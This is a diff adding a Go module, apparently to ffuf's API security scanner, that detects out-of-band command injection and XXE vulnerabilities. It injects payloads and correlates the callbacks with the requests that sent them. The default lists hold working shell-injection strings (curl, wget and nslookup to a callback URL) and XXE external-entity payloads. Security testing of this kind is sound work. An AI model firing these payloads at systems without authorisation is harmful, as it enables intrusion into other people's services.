@@ -0,0 +1,197 @@
+// Package security provides testing modules for API security vulnerabilities.
+package security
+
+import (
+	"context"
+	"encoding/json"
+	"fmt"
+	"net/url"
+	"strings"
+	"time"
+
+	"github.com/ffuf/ffuf/v2/pkg/api/security/oob"
+	"github.com/ffuf/ffuf/v2/pkg/ffuf"
+)
+
+// defaultOOBCommandPayloads returns the default out-of-band command injection payloads
+func defaultOOBCommandPayloads() []string {
+	return []string{
+		"; nslookup {oob_domain}",
+		"| nslookup {oob_domain}",
+		"$(nslookup {oob_domain})",
+		"`nslookup {oob_domain}`",
+		"; curl {oob_url}",
+		"; wget -q -O- {oob_url}",
+		"& nslookup {oob_domain} &",
+	}
+}
+
+// defaultOOBXMLPayloads returns the default out-of-band XXE payloads
+func defaultOOBXMLPayloads() []string {
+	return []string{
+		`<?xml version="1.0"?><!DOCTYPE root [<!ENTITY xxe SYSTEM "{oob_url}">]><root>&xxe;</root>`,
+		`<?xml version="1.0"?><!DOCTYPE root [<!ENTITY % xxe SYSTEM "{oob_url}"> %xxe;]><root/>`,
+	}
+}
+
+// oobRequests maps the correlation IDs of out-of-band payloads to the requests that sent them
+type oobRequests map[string]*ffuf.Request
+
+// testOOBInjection sends out-of-band command injection and XXE payloads. Interactions are
+// correlated with the payloads by reportOOBFindings once all tests are done.
+func (t *InjectionTester) testOOBInjection(ctx context.Context, endpoint string, r ffuf.RunnerProvider, requests oobRequests) {
+	paramNames := extractParameterNames(endpoint)
+	if len(paramNames) == 0 {
+		paramNames = []string{"command", "cmd", "exec", "host", "ip", "domain", "url", "file", "path", "name"}
+	}
+
+	for _, paramName := range paramNames {
+		for _, template := range t.Payloads.Payloads(PayloadCmdiOOB, t.OOBCommandPayloads) {
+			if ctx.Err() != nil {
+				return
+			}
+			// GET parameter
+			payload := t.OOB.Payload("Command Injection", fmt.Sprintf("GET parameter '%s'", paramName))
+			req := &ffuf.Request{
+				Method: "GET",
+				Url:    addOrReplaceParameter(endpoint, paramName, url.QueryEscape(payload.Render(template))),
+				Headers: map[string]string{
+					"User-Agent": testerUserAgent,
+				},
+			}
+			if _, err := r.Execute(req); err == nil {
+				requests[payload.ID] = req
+			}
+
+			// JSON body parameter
+			payload = t.OOB.Payload("Command Injection", fmt.Sprintf("POST parameter '%s'", paramName))
+			data, _ := json.Marshal(map[string]string{paramName: payload.Render(template)})
+			req = &ffuf.Request{
+				Method: "POST",
+				Url:    endpoint,
+				Headers: map[string]string{
+					"Content-Type": "application/json",
+					"User-Agent":   testerUserAgent,
+				},
+				Data: data,
+			}
+			if _, err := r.Execute(req); err == nil {
+				requests[payload.ID] = req
+			}
+		}
+	}
+
+	for _, template := range t.Payloads.Payloads(PayloadXXEOOB, t.OOBXMLPayloads) {
+		if ctx.Err() != nil {
+			return
+		}
+		payload := t.OOB.Payload("XML Injection (XXE)", "XML body")
+		req := &ffuf.Request{
+			Method: "POST",
+			Url:    endpoint,
+			Headers: map[string]string{
+				"Content-Type": "application/xml",
+				"User-Agent":   testerUserAgent,
+			},
+			Data: []byte(payload.Render(template)),
+		}
+		if _, err := r.Execute(req); err == nil {
+			requests[payload.ID] = req
+		}
+	}
+}
+
+// reportOOBFindings waits for out-of-band interactions and reports the payloads that triggered them
+func (t *InjectionTester) reportOOBFindings(ctx context.Context, requests oobRequests, result *TestResult) {
+	if len(requests) == 0 {
+		return
+	}
+	findings, _ := t.OOB.Wait(ctx, t.OOBTimeout)
+	for _, finding := range findings {
+		req, ok := requests[finding.Payload.ID]
+		if !ok {
+			continue // Payload of another test sharing the tracker
+		}
+
+		cwe, remediation := "CWE-77", "Avoid using system commands with user input. If necessary, use a whitelist of allowed commands and validate all inputs."
+		if finding.Payload.Test == "XML Injection (XXE)" {
+			cwe, remediation = "CWE-611", "Disable external entity processing in the XML parser. Use a secure XML parser configuration."
+		}
+
+		vuln := VulnerabilityInfo{
+			Type:        VulnInjection,
+			Name:        finding.Payload.Test + " (Out-of-Band)",
+			Description: fmt.Sprintf("The API endpoint is vulnerable to %s confirmed by an out-of-band interaction.", strings.ToLower(finding.Payload.Test)),
+			Severity:    "Critical",
+			Request:     convertToHTTPRequest(req),
+			Evidence: fmt.Sprintf("Payload %s in %s triggered %d %s interaction(s), first from %s",
+				finding.Payload.ID, finding.Payload.Location, len(finding.Interactions),
+				strings.Join(finding.Protocols(), "/"), finding.Interactions[0].RemoteAddr),
+			Remediation: remediation,
+			CVSS:        9.8,
+			CWE:         cwe,
+			References: []string{
+				"https://owasp.org/API-Security/editions/2019/en/0xa8-injection/",
+			},
+			DetectedAt: time.Now(),
+		}
+		result.Vulnerabilities = append(result.Vulnerabilities, vuln)
+	}
+}
+
+// OOBConsumer is implemented by the testers sending out-of-band payloads
+type OOBConsumer interface {
+	// SetOOB sets the tracker of the callback listener receiving the interactions of the
+	// out-of-band payloads of the tester
+	SetOOB(tracker *oob.Tracker)
+}
+
+// oobTrackerKey is the context key of the out-of-band tracker of a scan
+type oobTrackerKey struct{}
+
+// WithOOBTracker returns a context that makes the security test runs it is passed to share an
+// out-of-band tracker, so that a single callback listener serves every run
+func WithOOBTracker(ctx context.Context, tracker *oob.Tracker) context.Context {
+	return context.WithValue(ctx, oobTrackerKey{}, tracker)
+}
+
+// NewOOBTracker starts a callback server with the given options and returns a tracker for it
+func NewOOBTracker(options oob.ServerOptions) (*oob.Tracker, error) {
+	server, err := oob.NewServer(options)
+	if err != nil {
+		return nil, err
+	}
+	return oob.NewTracker(server), nil
+}
+
+// NewConfiguredOOBTracker starts the callback server of the out-of-band options of the config
+// and returns a tracker for it, or nil if no callback listener is configured. The payload URLs
+// are under the public URL of the listener, as the address it listens on is rarely the one
+// the targets reach it at.
+func NewConfiguredOOBTracker(config *ffuf.Config) (*oob.Tracker, error) {
+	if config.APISecurityOOBListen == "" && config.APISecurityOOBDNSListen == "" {
+		return nil, nil
+	}
+	if config.APISecurityOOBListen != "" && config.APISecurityOOBURL == "" {
+		return nil, fmt.Errorf("the out-of-band callback listener requires the public URL the targets reach it at")
+	}
+	if config.APISecurityOOBDNSListen != "" && config.APISecurityOOBDomain == "" {
+		return nil, fmt.Errorf("the out-of-band DNS listener requires the domain delegated to it")
+	}
+	return NewOOBTracker(oob.ServerOptions{
+		Domain:    config.APISecurityOOBDomain,
+		HTTPAddr:  config.APISecurityOOBListen,
+		DNSAddr:   config.APISecurityOOBDNSListen,
+		PublicURL: config.APISecurityOOBURL,
+	})
+}
+
+// oobTrackerFor returns the out-of-band tracker of a context, or a tracker of the config if the
+// context has none. The tracker of the config is owned by the caller, which closes it.
+func oobTrackerFor(ctx context.Context, config *ffuf.Config) (tracker *oob.Tracker, owned bool, err error) {
+	if tracker, ok := ctx.Value(oobTrackerKey{}).(*oob.Tracker); ok {
+		return tracker, false, nil
+	}
+	tracker, err = NewConfiguredOOBTracker(config)
+	return tracker, tracker != nil, err
+}